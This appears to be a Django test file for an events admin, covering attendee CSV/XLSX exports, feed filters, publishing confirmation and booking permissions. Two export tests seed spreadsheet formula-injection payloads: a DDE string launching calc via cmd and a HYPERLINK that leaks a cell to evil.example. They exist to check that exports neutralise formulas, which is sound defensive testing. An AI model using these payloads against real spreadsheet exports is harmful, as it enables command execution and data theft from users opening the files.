"""The events admin: the attendees CSV cannot carry spreadsheet formulas; calendar feeds
can be filtered."""

from datetime import timedelta

import pytest
import time_machine
from django.utils import timezone

from tests.factories import MemberFactory, OrganisationFactory
from tests.spreadsheets import assert_same_rows_formulas_neutralised, csv_rows, xlsx_rows

from .factories import BookingFactory, CalendarFeedFactory, EventFactory

pytestmark = pytest.mark.django_db


def test_attendees_csv_neutralises_formulas(client, manager, provider):
    event = EventFactory(organiser=provider, title="=cmd|' /C calc'!A0")
    member = MemberFactory(
        full_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        profile__organisation=OrganisationFactory(name="+Barts Health NHS Trust"),
        profile__job_title="@Head of People",
    )
    BookingFactory(event=event, member=member)
    BookingFactory(event=event, member=MemberFactory(full_name="Ada Okafor"))
    client.force_login(manager)
    response = client.post(
        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
    )
    rows = csv_rows(response)
    assert rows[0][:3] == ["event", "starts", "name"]
    by_name = {row[2]: row for row in rows[1:]}
    evil = by_name["'" + member.full_name]
    assert evil[0] == "'=cmd|' /C calc'!A0"
    assert evil[4] == "'+Barts Health NHS Trust" and evil[5] == "'@Head of People"
    assert by_name["Ada Okafor"][2] == "Ada Okafor"  # ordinary text untouched
    # No cell anywhere starts with a formula character.
    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r"]


def test_calendar_feed_admin_filters(admin_client):
    with time_machine.travel(timezone.now() - timedelta(days=60)):
        old = CalendarFeedFactory()
    never_reset = CalendarFeedFactory()
    reset = CalendarFeedFactory(reset_at=timezone.now())
    inactive = CalendarFeedFactory(user__is_active=False)
    url = "/admin/events/calendarfeed/"

    def listed(**params):
        response = admin_client.get(url, params)
        assert response.status_code == 200
        return set(response.context["cl"].result_list)

    assert listed() == {old, never_reset, reset, inactive}
    assert listed(reset_at__isnull="False") == {reset}
    assert listed(reset_at__isnull="True") == {old, never_reset, inactive}
    assert listed(user__is_active__exact="0") == {inactive}
    week_ago = (timezone.now() - timedelta(days=7)).isoformat()
    assert old not in listed(created_at__gte=week_ago)
    page = admin_client.get(url).content.decode()
    assert "By reset at" in page and "By created at" in page


# Publishing: whom the announcement reaches, a confirmation, then its progress ---------------


def test_publish_shows_the_reach_asks_then_publishes_and_shows_progress(
    client, manager, provider, django_capture_on_commit_callbacks
):
    from events.models import Event
    from talenthub.core.choices import Region
    from talenthub.core.models import OutboundEmail
    from tests.factories import OutboundEmailFactory

    event = EventFactory(organiser=provider, status="draft", title="Aspire celebration")
    in_region = MemberFactory.create_batch(3, profile__region=Region.WEST_MIDLANDS)
    MemberFactory.create_batch(2, profile__region=Region.LONDON)  # outside the audience
    client.force_login(manager)  # works for the organiser: in its network, so reached too

    response = client.post(
        "/admin/events/event/", {"action": "publish", "_selected_action": [event.pk]}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert (
        "<strong>4</strong> members" in html and "Publish 1 event and send 4 announcements" in html
    )
    assert "Members in West Midlands, or in West Midlands Employers" in html
    assert Event.objects.get(pk=event.pk).status == "draft"  # nothing happens before yes
    assert not OutboundEmail.objects.exists()

    change = f"/admin/events/event/{event.pk}/change/"
    assert "Publishing will email 4 members." in client.get(change).content.decode()

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/admin/events/event/",
            {"action": "publish", "_selected_action": [event.pk], "apply": "1"},
            follow=True,
        )
    assert Event.objects.get(pk=event.pk).status == "published"
    assert f"{change}#announcement" in response.content.decode()
    rows = OutboundEmail.objects.filter(key__startswith=f"event.announced:{event.pk}:")
    assert {row.recipient for row in rows} == {*in_region, manager}

    assert (
        "4 emails: 0 queued, 0 being sent, 4 sent, 0 failed." in client.get(change).content.decode()
    )
    first, second = rows.order_by("pk")[:2]
    OutboundEmail.objects.filter(pk=first.pk).update(status="failed")
    OutboundEmail.objects.filter(pk=second.pk).update(status="pending")
    OutboundEmailFactory(key=f"event.announced:{event.pk}0:1")  # another event's prefix
    assert (
        "4 emails: 1 queued, 0 being sent, 2 sent, 1 failed." in client.get(change).content.decode()
    )
    OutboundEmail.objects.filter(pk=second.pk).update(status="sending")
    assert (
        "4 emails: 0 queued, 1 being sent, 2 sent, 1 failed." in client.get(change).content.decode()
    )


def test_publish_confirmation_warns_of_the_four_week_rule_and_skips_non_drafts(
    client, manager, provider
):
    early = EventFactory(
        organiser=provider, status="draft", starts_at=timezone.now() + timedelta(weeks=8)
    )
    published = EventFactory(organiser=provider)
    client.force_login(manager)
    html = client.post(
        "/admin/events/event/",
        {"action": "publish", "_selected_action": [early.pk, published.pk]},
    ).content.decode()
    assert "publishing will be refused without the override" in html
    assert "Not a draft (published): will not be published" in html
    # Nothing here can be published: no button that says it will send anything.
    assert "None of these events can be published from here" in html
    assert "Publish 0 events" not in html and "send 0 announcements" not in html
    html = client.post(
        "/admin/events/event/",
        {"action": "publish_override", "_selected_action": [early.pk]},
    ).content.decode()
    assert "refused" not in html and "four-week rule is overridden" in html


def test_another_providers_manager_cannot_see_or_publish_the_event(client, provider):
    from events.models import Event
    from tests.factories import ManagerFactory

    event = EventFactory(organiser=provider, status="draft", title="WME only")
    client.force_login(ManagerFactory())  # another provider's manager
    response = client.post(
        "/admin/events/event/", {"action": "publish", "_selected_action": [event.pk]}
    )
    assert "WME only" not in response.content.decode()
    client.post(
        "/admin/events/event/",
        {"action": "publish", "_selected_action": [event.pk], "apply": "1"},
    )
    assert Event.objects.get(pk=event.pk).status == "draft"
    assert client.get(f"/admin/events/event/{event.pk}/change/").status_code in (302, 404)


def test_the_confirmation_costs_one_count_per_event_and_no_more(client, manager, provider):
    """The audience in words read the programme's levels, sectors and areas per event
    (4 queries an event): prefetched, each event adds only its reach's count."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.programmes.factories import ProgrammeFactory

    events = [
        EventFactory(organiser=provider, status="draft", programme=ProgrammeFactory(owner=provider))
        for _ in range(5)
    ]
    client.force_login(manager)

    def queries(selected):
        with CaptureQueriesContext(connection) as captured:
            response = client.post(
                "/admin/events/event/",
                {"action": "publish", "_selected_action": [e.pk for e in selected]},
            )
        assert response.status_code == 200
        return len(captured.captured_queries)

    assert queries(events) == queries(events[:1]) + 4


def test_attendees_as_xlsx_the_same_rows_without_formulas(client, manager, provider):
    event = EventFactory(organiser=provider, title="=cmd|' /C calc'!A0")
    member = MemberFactory(
        full_name='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        profile__organisation=OrganisationFactory(name="Łódź +Barts Health NHS Trust"),
    )
    BookingFactory(event=event, member=member)
    BookingFactory(event=event, member=MemberFactory(full_name="Łucja Nowak-Śliwińska"))
    client.force_login(manager)

    def export(action):
        return client.post(
            "/admin/events/event/",
            {"action": action, "_selected_action": [event.pk]},
        )

    rows = assert_same_rows_formulas_neutralised(
        export("export_attendees"), export("export_attendees_xlsx")
    )
    names = {row[2] for row in rows[1:]}
    assert names == {member.full_name, "Łucja Nowak-Śliwińska"}
    # Another organiser's event is not the manager's to export, in either format.
    other = BookingFactory(event=EventFactory(), member=MemberFactory(full_name="Not Theirs"))
    for action in ["export_attendees", "export_attendees_xlsx"]:
        response = client.post(
            "/admin/events/event/", {"action": action, "_selected_action": [other.event.pk]}
        )
        rows = xlsx_rows(response) if action.endswith("xlsx") else csv_rows(response)
        assert rows == rows[:1] and rows[0][2] == "name"  # the header only


# A refusal in an admin save: an error on the form, never "changed successfully", and
# nothing of the form written (DomainErrorAdminMixin).


def _booking_form(booking, **changes):
    return {"attendance": booking.attendance, **changes}


def _success_messages(response):
    from django.contrib.messages import SUCCESS, get_messages

    return [m.message for m in get_messages(response.wsgi_request) if m.level == SUCCESS]


def _messages(response):
    from django.contrib.messages import get_messages

    return [(m.level, m.message) for m in get_messages(response.wsgi_request)]


def test_moving_a_confirmed_booking_is_refused_without_a_success_banner(client, manager, provider):
    """Moving is its own page, offered for waiting entries only: for a confirmed place
    the answer is an error message on the booking's page, never a success banner."""
    from django.contrib.admin.models import LogEntry
    from django.contrib.messages import ERROR
    from django.urls import reverse

    booking = BookingFactory(event=EventFactory(organiser=provider))  # a confirmed place
    client.force_login(manager)
    change = reverse("admin:events_booking_change", args=[booking.pk])
    assert reverse("admin:events_booking_move", args=[booking.pk]) not in (
        client.get(change).content.decode()
    )
    url = reverse("admin:events_booking_move", args=[booking.pk])
    response = client.post(url, {"position": "1", "reason": "Asked"})
    assert response.status_code == 302 and response["Location"] == change
    assert [level for level, _m in _messages(response)] == [ERROR]
    assert not LogEntry.objects.exists()


def test_a_refusal_on_an_operation_page_is_a_form_error(client, manager, provider, monkeypatch):
    """The service refuses (here: the entry was promoted between the page and the
    click): the same page again with the refusal on the form, nothing written."""
    from django.urls import reverse

    from events import services
    from events.exceptions import BookingError

    booking = BookingFactory(event=EventFactory(organiser=provider), status="waiting")

    def refuse(**kwargs):
        raise BookingError("Only people on the waiting list can be moved.", code="not_waiting")

    monkeypatch.setattr(services, "waiting_list_move", refuse)
    client.force_login(manager)
    url = reverse("admin:events_booking_move", args=[booking.pk])
    response = client.post(url, {"position": "1", "reason": "Asked"})
    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == [
        "Only people on the waiting list can be moved."
    ]
    assert _success_messages(response) == []
    # No reason: a field error before any service is called.
    response = client.post(url, {"position": "1", "reason": ""})
    assert response.status_code == 200 and "reason" in response.context["form"].errors


def test_operation_pages_change_priority_move_and_remove_one_service_each(
    client, manager, provider
):
    from django.urls import reverse

    from tests.factories import ManagerFactory, ProviderFactory

    other_provider_manager = ManagerFactory(profile__organisation=ProviderFactory())

    from events.models import Booking
    from talenthub.core.models import AuditLog

    event = EventFactory(organiser=provider, capacity=1)
    BookingFactory(event=event)
    now = timezone.now()
    queue = [
        BookingFactory(event=event, status="waiting", joined_at=now + timedelta(seconds=i))
        for i in range(3)
    ]
    # Another provider's manager cannot open them.
    client.force_login(other_provider_manager)
    url = reverse("admin:events_booking_priority", args=[queue[1].pk])
    assert client.get(url).status_code in {302, 404}
    client.force_login(manager)
    change = client.get(reverse("admin:events_booking_change", args=[queue[1].pk]))
    assert url in change.content.decode()
    response = client.post(url, {"priority": "5", "reason": "Keynote speaker"})
    assert response.status_code == 302
    assert _success_messages(response) == ["The priority was changed."]
    assert Booking.objects.get(pk=queue[1].pk).priority == 5
    assert AuditLog.objects.get(action="booking.priority_changed").reason == "Keynote speaker"
    url = reverse("admin:events_booking_remove", args=[queue[0].pk])
    assert client.post(url, {"reason": "Duplicate"}).status_code == 302
    assert Booking.objects.get(pk=queue[0].pk).status == "cancelled"


def test_the_booking_page_makes_one_change_per_save(client, manager, provider):
    """Only attendance is changed on the booking's own page: a priority posted with it is
    not a field of the form, and a refused attendance writes nothing."""
    from django.contrib.admin.models import LogEntry
    from django.urls import reverse

    from events.models import Booking

    booking = BookingFactory(event=EventFactory(organiser=provider), status="waiting")
    client.force_login(manager)
    url = reverse("admin:events_booking_change", args=[booking.pk])
    response = client.post(url, _booking_form(booking, priority="5", attendance="attended"))
    assert Booking.objects.get(pk=booking.pk).priority == booking.priority
    assert _success_messages(response) == []
    assert response.status_code == 200
    assert "Attendance is recorded only for confirmed places." in response.content.decode()
    assert not LogEntry.objects.exists()


def test_an_event_whose_end_is_before_its_start_is_refused_in_plain_words(admin_client):
    from django.urls import reverse

    event = EventFactory()
    url = reverse("admin:events_event_change", args=[event.pk])
    form = admin_client.get(url).context["adminform"].form
    starts = timezone.localtime(event.starts_at)
    data = {name: value for name, value in form.initial.items() if value is not None}
    data.update(
        {
            "organiser": event.organiser_id,
            "starts_at_0": starts.strftime("%d/%m/%Y"),
            "starts_at_1": starts.strftime("%H:%M:%S"),
            # An hour before the start, its own date too (between midnight and 1 a.m. the
            # start's date with the earlier time was the evening after it).
            "ends_at_0": (starts - timedelta(hours=1)).strftime("%d/%m/%Y"),
            "ends_at_1": (starts - timedelta(hours=1)).strftime("%H:%M:%S"),
            "booking_opens_at_0": timezone.localtime(event.booking_opens_at).strftime("%d/%m/%Y"),
            "booking_opens_at_1": timezone.localtime(event.booking_opens_at).strftime("%H:%M:%S"),
            "booking_closes_at_0": timezone.localtime(event.booking_closes_at).strftime("%d/%m/%Y"),
            "booking_closes_at_1": timezone.localtime(event.booking_closes_at).strftime("%H:%M:%S"),
            "questions-TOTAL_FORMS": "0",
            "questions-INITIAL_FORMS": "0",
            "bookings-TOTAL_FORMS": "0",
            "bookings-INITIAL_FORMS": "0",
        }
    )
    for name in ("starts_at", "ends_at", "booking_opens_at", "booking_closes_at", "rerun_of"):
        data.pop(name, None)
    response = admin_client.post(url, data)
    assert response.status_code == 200
    body = response.content.decode()
    assert "An event must end after it starts." in body
    assert "is violated" not in body


def test_event_and_booking_pages_do_not_link_members_to_the_user_admin(client, manager, provider):
    """A manager may not open the user admin (403): member names are shown as text."""
    from django.urls import reverse

    member = MemberFactory(full_name="Siobhán O'Brien")
    booking = BookingFactory(event=EventFactory(organiser=provider), member=member)
    client.force_login(manager)
    assert client.get(reverse("admin:core_user_change", args=[member.pk])).status_code == 403
    for url in (
        reverse("admin:events_event_change", args=[booking.event.pk]),
        reverse("admin:events_booking_change", args=[booking.pk]),
    ):
        body = client.get(url).content.decode()
        assert member.email in body
        assert reverse("admin:core_user_change", args=[member.pk]) not in body


def test_the_event_list_shows_and_sorts_by_place_counts_the_admin_queryset_has_none(
    client, manager, provider
):
    """The three place counts are the list's (its rows and its sorting by them), not the
    admin's queryset, which the list filters, the change pages and autocompletes read
    (building the counts there was wasted work: issue 16)."""
    from django.contrib import admin
    from django.test import RequestFactory

    from events.models import Booking, Event

    full = EventFactory(organiser=provider, title="Full", capacity=3)
    quiet = EventFactory(organiser=provider, title="Quiet", capacity=3)
    for _ in range(3):
        BookingFactory(event=full)
    BookingFactory(event=full, status=Booking.Status.WAITING)
    BookingFactory(event=quiet)
    client.force_login(manager)
    response = client.get("/admin/events/event/", {"o": "-7"})  # Booked, descending
    assert response.status_code == 200
    rows = list(response.context["cl"].result_list)
    assert [event.title for event in rows] == ["Full", "Quiet"]
    assert [(e.confirmed_count, e.offered_count, e.waiting_count) for e in rows] == [
        (3, 0, 1),
        (1, 0, 0),
    ]
    content = response.content.decode()
    assert '<td class="field-confirmed_count">3</td>' in content
    assert '<td class="field-waiting_count">1</td>' in content
    # Sorting by a count with a filter on, and the filter's choices, still work.
    response = client.get("/admin/events/event/", {"o": "9", "organiser__id__exact": provider.pk})
    assert [event.title for event in response.context["cl"].result_list] == ["Quiet", "Full"]

    request = RequestFactory().get("/admin/events/event/")
    request.user = manager
    queryset = admin.site._registry[Event].get_queryset(request)
    assert "confirmed_count" not in queryset.query.annotations
